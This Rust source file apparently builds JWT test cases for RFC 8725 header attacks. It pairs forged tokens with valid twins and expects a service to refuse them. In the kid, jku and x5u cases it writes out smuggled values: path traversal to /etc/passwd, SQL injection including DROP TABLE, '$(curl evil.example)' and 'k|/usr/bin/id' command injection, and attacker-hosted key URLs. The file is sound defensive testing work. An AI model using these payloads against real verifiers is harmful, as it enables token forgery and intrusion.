//! Header parameters that lead a service astray (RFC 8725, section 3.10).

use serde_json::{Value, json};

use super::{Case, Class, Credential, Step, World};
use crate::{
    signer::{self, hmac_tag},
    tokens::base64url,
};

pub(super) fn cases(_: &World, out: &mut Vec<Case>) {
    keys(out);
    addresses(out);
    kid(out);
    invented(out);
    extensions(out);
    shapes(out);
}

fn case(name: impl Into<String>, finds: &[&'static str], attack: String, twin: String) -> Case {
    Case::refused(Class::Header, name, finds, attack, twin)
}

/// A token that brings its own key.
fn keys(out: &mut Vec<Case>) {
    let good = Credential::new("ES256");
    let own = signer::attacker();
    let jwk = good.clone().header("jwk", own.p256.jwk());
    let finds = &["header-embedded-key", "signature-invalid"];
    out.push(case("jwk, signed with that key", finds, jwk.sign_by(&own.p256), good.sign()));
    out.push(case(
        "jwk beside a good signature",
        &["header-embedded-key"],
        jwk.sign(),
        good.sign(),
    ));
    let x5c = good.clone().header("x5c", json!(["MIIBszCCARygAwIBAgI="]));
    out.push(case("x5c, signed with its key", finds, x5c.sign_by(&own.p256), good.sign()));
    let hs = Credential::new("HS256");
    let oct =
        hs.clone().header("jwk", json!({ "kty": "oct", "k": base64url(own.secret.secret()) }));
    out.push(case("jwk with a secret", finds, oct.sign_by(&own.secret), hs.sign()));
}

/// Addresses of keys outside of the allowed ones, and what looks like inside.
fn addresses(out: &mut Vec<Case>) {
    let good = Credential::new("RS256");
    let twin = |name: &str| good.clone().header(name, "https://id.example/keys.json").sign();
    for (name, address) in [
        ("jku", "https://evil.example/keys.json"),
        ("jku", "https://id.example.evil.example/keys.json"),
        ("jku", "https://id.example@evil.example/keys.json"),
        ("jku", "https://id.example/../evil/keys.json"),
        ("jku", "https://id.example/%2e%2e/evil/keys.json"),
        ("jku", "http://id.example/keys.json"),
        ("jku", "//evil.example/keys.json"),
        ("jku", "https://evil.example/#https://id.example/"),
        ("x5u", "https://evil.example/chain.pem"),
        ("x5u", "https://id.example:8443/chain.pem"),
        ("x5u", "file:///etc/ssl/certs/ca.pem"),
    ] {
        let forged = good.clone().header(name, address).sign();
        let finds = if name == "jku" { &["jku-untrusted"] } else { &["x5u-untrusted"] };
        out.push(case(format!("{name} {address}"), finds, forged, twin(name)));
    }
}

fn kid(out: &mut Vec<Case>) {
    let good = Credential::new("RS256");
    for (what, kid) in [
        ("a path upwards", "../../../../etc/passwd"),
        ("a path from the root", "/proc/sys/kernel/randomize_va_space"),
        ("a path in percent-encoding", "..%2f..%2fkeys%2fother"),
        ("a path in Windows' form", r"..\..\windows\win.ini"),
        ("the null device", "/dev/null"),
        ("the null device from below", "../../../dev/null"),
        ("SQL that picks the key", "x' UNION SELECT 'secret' -- "),
        ("SQL that is always true", "k' OR '1'='1"),
        ("SQL that drops", "k'; DROP TABLE keys; --"),
        ("a command behind a bar", "k|/usr/bin/id"),
        ("a command substituted", "$(curl evil.example)"),
        ("an address", "https://evil.example/key"),
        ("a line end", "k\r\nX-Key: evil"),
        ("a NUL", "k\u{0}"),
    ] {
        let name = format!("kid with {what}");
        let forged = good.clone().header("kid", kid).sign();
        out.push(case(name, &["kid-injection"], forged, good.sign()));
    }
    let forged = good.clone().header("kid", "").sign();
    out.push(case("kid empty", &["kid-empty"], forged, good.sign()));
    for kid in [json!(7), json!(["rsa"]), json!({ "rsa": 1 }), Value::Null] {
        let forged = good.clone().header("kid", kid.clone()).sign();
        out.push(case(format!("kid {kid}"), &["token-malformed"], forged, good.sign()));
    }
}

/// A key that the issuer does not have. It proves nothing by itself: the twin is the issuer's own
/// token, under a name that is as unknown.
fn invented(out: &mut Vec<Case>) {
    for alg in ["RS256", "PS384", "ES256", "ES512", "EdDSA"] {
        let named = Credential::new(alg).header("kid", "invented");
        let forged = named.sign_by(signer::attacker().of(alg));
        let name = format!("{alg} under an invented kid");
        out.push(case(&*name, &["kid-unknown"], forged.clone(), named.sign()));
        let (name, finds) = (format!("{name}, accepted"), &["kid-unknown"]);
        out.push(Case::taken(Class::Header, name, finds, forged, named.sign()));
    }
    // No key of the issuer is for this algorithm.
    let good = Credential::new("RS256");
    let secret = good.clone().header("alg", "HS256").header("kid", "invented");
    let forged = secret.sign_with(|input| hmac_tag(b"whatever", "HS256", input));
    out.push(case("HS256 under an invented kid", &["kid-unknown"], forged, good.sign()));
}

fn extensions(out: &mut Vec<Case>) {
    let good = Credential::new("RS256");
    let bound = good.clone().header("urn:shop:bound", true);
    for (what, crit) in [
        ("an unknown name", json!(["urn:shop:bound"])),
        ("no name", json!([])),
        ("no list", json!("urn:shop:bound")),
        ("a registered name", json!(["typ"])),
        ("a name that the header lacks", json!(["urn:shop:other"])),
    ] {
        let forged = bound.clone().header("crit", crit).sign();
        out.push(case(format!("crit with {what}"), &["crit-unknown"], forged, bound.sign()));
    }
    // RFC 7797, section 6: what is understood may be critical.
    let understood = good.clone().header("b64", true).header("crit", json!(["b64"]));
    let twice = understood.clone().header("crit", json!(["b64", "b64"]));
    out.push(case("crit with a name twice", &["crit-unknown"], twice.sign(), understood.sign()));
    for typ in ["logout+jwt", "dpop+jwt", "JOSE", "at+jwt2"] {
        let forged = good.clone().header("typ", typ).sign();
        let twin = good.clone().header("typ", "application/at+jwt").sign();
        out.push(case(format!("typ {typ}"), &["typ-wrong"], forged, twin));
    }
    let forged = good.clone().no_header("typ").sign();
    out.push(case("typ missing", &["typ-wrong"], forged, good.sign()));
    let forged = good.clone().header("zip", "DEF").sign();
    out.push(case("zip in a signed token", &["zip-header"], forged, good.sign()));
}

/// Tokens of another shape.
fn shapes(out: &mut Vec<Case>) {
    let encrypted = |rounds: Value| {
        let header = json!({
            "alg": "PBES2-HS256+A128KW", "enc": "A128GCM", "typ": "JWT",
            "p2s": base64url([1; 16]), "p2c": rounds,
        });
        let parts = [&[2; 24][..], &[3; 12], &[4; 200], &[5; 16]].map(base64url);
        format!("{}.{}", base64url(header.to_string()), parts.join("."))
    };
    for rounds in [json!(10_000_000), json!(1e300), json!("4096")] {
        let name = format!("p2c {rounds}");
        out.push(case(name, &["p2c-too-large"], encrypted(rounds), encrypted(json!(4096))));
    }
    let five = |issuer: &str| {
        let header = json!({ "alg": "dir", "enc": "A256GCM", "typ": "JWT", "iss": issuer });
        let parts = [&[][..], &[3; 12], &[4; 200], &[5; 16]].map(base64url);
        format!("{}.{}", base64url(header.to_string()), parts.join("."))
    };
    let (signs, encrypts) = (five("https://id.example"), five("https://hs.example"));
    let name = "five parts where the issuer signs";
    out.push(case(name, &["encryption-unexpected"], signs, encrypts.clone()));
    // Its issuer encrypts, and the service takes no such token.
    let at = |port| vec![Step::bearer(&encrypts).to(port)];
    let name = "five parts where the service takes none";
    out.push(Case::new(Class::Header, name, &["encryption-unexpected"], at(8081), at(8080)));
    let good = Credential::new("RS256");
    let token = good.sign();
    if let [header, payload, signature] = token.split('.').collect::<Vec<_>>()[..] {
        let flat =
            json!({ "payload": payload, "protected": header, "signature": signature }).to_string();
        out.push(case("JSON serialisation", &["serialization-unexpected"], flat, token.clone()));
        let general = json!({
            "payload": payload,
            "signatures": [{ "protected": header, "signature": signature }],
        });
        let general = general.to_string();
        let name = "JSON serialisation with a list of signatures";
        out.push(case(name, &["serialization-unexpected"], general, token.clone()));
        let four = format!("{token}.{signature}");
        out.push(case("four parts", &["token-malformed"], four, token.clone()));
    }
    let cut = good.sign_header(&good.header_json().replace('}', ""));
    out.push(case("a header that is cut off", &["token-malformed"], cut, token.clone()));
    let listed = good.sign_header(&format!("[{}]", good.header_json()));
    out.push(case("a header in a list", &["token-malformed"], listed, token));
    // Read as it says, the payload is no JSON; read as a JWT must be, the header lies.
    let forged = good.clone().header("b64", false).header("crit", json!(["b64"])).sign();
    let twin = good.header("b64", true).header("crit", json!(["b64"])).sign();
    out.push(case("b64 false", &["b64-false", "token-malformed"], forged, twin));
}
